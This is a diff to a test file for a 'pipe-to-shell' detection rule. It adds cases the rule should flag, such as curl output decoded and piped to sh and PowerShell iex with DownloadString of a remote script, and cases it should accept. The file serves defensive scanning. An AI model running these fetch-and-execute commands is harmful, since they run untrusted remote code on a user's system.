@@ -82,6 +82,9 @@ describe('security/pipe-to-shell', () => {
     'bash <(curl -s https://x.y)',
     'sh -c "$(curl -fsSL https://x.y)"',
     'eval "$(curl https://x.y)"',
+    'curl https://x.y | base64 -d | tee a.sh | sh',
+    "iex ((New-Object System.Net.WebClient).DownloadString('https://x.y/i.ps1'))",
+    "DownloadString('https://x.y/i.ps1') | iex",
   ]) {
     finds(body(`\`${command}\``), { at: shown(command) });
   }
@@ -92,6 +95,9 @@ describe('security/pipe-to-shell', () => {
     '`curl https://x.y | python3 -c "import json"`',
     '`curl https://x.y > a.sh; sh a.sh`',
     '| curl | https://x.y | show |',
+    '`curl https://x.y | jq . | sh`',
+    '`curl https://x.y || tee a | sh`',
+    '`(New-Object Net.WebClient).DownloadFile("https://x.y", "a")`',
   ])
     accepts(body(text));
 
